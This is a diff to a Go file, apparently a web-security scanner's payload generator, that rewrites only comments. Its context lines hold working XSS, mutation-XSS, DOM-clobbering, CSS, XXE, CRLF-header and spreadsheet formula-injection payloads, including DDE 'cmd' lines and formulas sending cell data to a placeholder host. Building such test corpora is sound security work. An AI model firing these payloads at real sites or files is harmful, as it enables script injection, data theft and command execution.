@@ -110,7 +110,8 @@ func handlers() (all []string) {
 	return all
 }
 
-// attributes end an attribute or tag in ways that filters based on regular expressions miss.
+// attributes returns payloads that end an attribute or tag in ways that filters based on
+// regular expressions miss.
 func attributes() []string {
 	all := []string{
 		"<img src=x onerror\n=\n§>", `<img/src=x/onerror=§>`, `<img src="x"onerror="§">`, `<img src=x: onerror=§//`, `<img """><script>§</script>">`,
@@ -168,8 +169,8 @@ func schemed() (all []string) {
 		`/\/¤/?§`, `//¤/?§`, `https://wa.me/919825012345?text=<script>§</script>`, `https://youtu.be/"><script>§</script>`, `https://www.youtube.com/watch?v=x"onload="§`, `https://www.youtube.com/embed/x'><script>§</script>`)
 }
 
-// mutations are parsed differently after being serialised (mutation XSS): raw text that ends
-// inside an attribute, for each raw-text element and each namespace.
+// mutations returns payloads that are parsed differently after being serialised (mutation
+// XSS): raw text that ends inside an attribute, for each raw-text element and each namespace.
 func mutations() (all []string) {
 	texts := []string{"style", "xmp", "iframe", "noembed", "noframes", "noscript", "textarea", "title", "script", "template", "select", "plaintext", "listing", "option"}
 	around := []string{"%s", "<svg>%s", "<math>%s", "<math><mtext>%s", "<svg><desc>%s", "<svg><foreignObject>%s", "<math><annotation-xml encoding=text/html>%s", "<table><tr><td>%s", "<table>%s", "<form><math><mtext></form><form><mglyph>%s", "<select>%s", "<p><b><i><u>%s", "<svg></p>%s", "<ul><li>%s", "<math><mi><table><mglyph>%s"}
@@ -210,7 +211,8 @@ var mathML = []string{
 	`<math><mstyle style="position:fixed;inset:0" onclick=§>c</mstyle></math>`, `<math><script>§</script></math>`, `<math><semantics><mi>x</mi><annotation-xml encoding="SVG1.1"><svg><script>§</script></svg></annotation-xml></semantics></math>`, `<math><mphantom><img src=x onerror=§></mphantom></math>`, `<math></p><script>§</script>`, `<math><br><script>§</script>`,
 }
 
-// clobbering gives elements the names of properties that scripts use (DOM clobbering).
+// clobbering returns elements that have the names of properties that scripts use (DOM
+// clobbering).
 func clobbering() (all []string) {
 	names := strings.Fields(`root boot prose __early __x body head documentElement cookie getElementById querySelector forms location defaultView currentScript dataset
 		localStorage sessionStorage constructor __proto__ prototype toString valueOf hasOwnProperty children childNodes firstChild attributes innerHTML textContent
@@ -238,7 +240,7 @@ var styles = []string{
 	`<p style="width:expression(§)">x`, `<p style="b\61ckground:url(https://¤/esc)">x`, `<p style="background:u\72l(https://¤/esc2)">x`, `<p style="x:url(https://¤/x" onclick=§>x`, `<p style='background:url("https://¤/q")'>x`, `<div style="content:'</style><script>§</script>'">x`, `<p style="--x:</style><script>§</script>">x`, `red;background:url(https://¤/colour)`, `#fff}*{background:url(https://¤/brace)}`, `#000;}</style><script>§</script>`, `url(javascript:§)`, `url("https://¤/u")`, `image-set("https://¤/set" 1x)`, `expression(§)`, `\27;background:url(https://¤/quote);`, `*/}*{background:url(https://¤/c)}/*`, `;@import "https://¤/semi";`, `{}@import url(//¤/at);`,
 }
 
-// encoded are simple payloads in every encoding that some parser may decode.
+// encoded returns simple payloads in every encoding that some parser may decode.
 func encoded() (all []string) {
 	each := func(form string) func(string) string {
 		return func(text string) string {
@@ -267,7 +269,8 @@ func encoded() (all []string) {
 	return all
 }
 
-// breakouts end the surrounding construct, for every place in which a page inserts text.
+// breakouts returns payloads that end the surrounding construct, for every place in which a
+// page inserts text.
 func breakouts() (all []string) {
 	ends := []string{
 		`">`, `'>`, "`>", `>`, `"/>`, `'/>`, `" `, `' `, `</script>`, `</SCRIPT >`, `</script/x>`, `</style>`, `</title>`, `</textarea>`, `</noscript>`, `</template>`, `</iframe>`, `</xmp>`, `</select>`, `</svg>`, `</math>`, `</a></p></div></div>`, `-->`, `--!>`, `]]>`, `?>`, `%>`, `*/`, `';`, `";`, `'};`, `"}];`, `\";`, `\';`, `\`, `"+`, `'-`, "`${", "\u2028", "\u2029", "\n", "\r\n\r\n", "\x00", `&quot;>`, `&#34;>`, `&apos;>`, `%22%3E`, `\x22>`, `\u0022>`, `}}`, `))`, `;)`,
@@ -314,7 +317,7 @@ var cards = []string{
 	"upi://pay?pa=v@¤&am=1", "otpauth://totp/§?secret=A&issuer=¤", "User-agent: *\nDisallow: §", "Sitemap: https://¤/sitemap.xml", "]]></title><link href=\"https://¤/\"/>", "</url><url><loc>https://¤/</loc></url>", "</entry><entry><content type=\"html\">&lt;script&gt;§&lt;/script&gt;</content></entry>", "<content type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\"><script>§</script></div></content>", "<x xmlns=\"http://www.w3.org/1999/xhtml\"><script>§</script></x>", "<xsl:value-of select=\"document('https://¤/')\"/>", "<!ENTITY % x SYSTEM \"https://¤/x\"> %x;", "\",\"start_url\":\"https://¤/", "\"}],\"icons\":[{\"src\":\"https://¤/i.png\"}],\"x\":[{\"y\":\"",
 }
 
-// cells are interpreted as formulas by spreadsheets.
+// cells returns texts that spreadsheets interpret as formulas.
 func cells() (all []string) {
 	for _, begin := range []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "'=", `"=`, ";=", ",=", "|=", "\u200b=", "\ufeff="} {
 		all = append(all, begin+`HYPERLINK("https://¤/","§")`, begin+`cmd|'/C §'!A0`)
@@ -322,7 +325,7 @@ func cells() (all []string) {
 	return append(all, `=WEBSERVICE("https://¤/"&A1)`, `=IMPORTXML("https://¤/","//a")`, `=IMAGE("https://¤/i.png")`, `x";=HYPERLINK("https://¤/s")`, "x\"\r\n=HYPERLINK(\"https://¤/r\")", `=DDE("cmd";"/C §";"1")`, `{=HYPERLINK("https://¤/a")}`, `%0A=HYPERLINK("https://¤/p")`, `sep=;=HYPERLINK("https://¤/sep")`)
 }
 
-// headers break out of a line of HTTP, of a log or of an event stream.
+// headers returns payloads that break out of a line of HTTP, of a log or of an event stream.
 func headers() (all []string) {
 	for i, line := range []string{"\r\n", "\n", "\r", "%0d%0a", "%0a", "%0d", `\r\n`, "\u560d\u560a", "%E5%98%8D%E5%98%8A", "\u2028", "\x0b", "\x1b[2J\n", "\u0085", "%00%0a"} {
 		all = append(all, "x"+line+"Set-Cookie: x=§", "x"+line+line+"<script>§</script>", []string{"x" + line + "Location: https://¤/", "x" + line + "data: {\"x\":\"§\"}", "x" + line + "Content-Type: text/html" + line + line + "§"}[i%3])
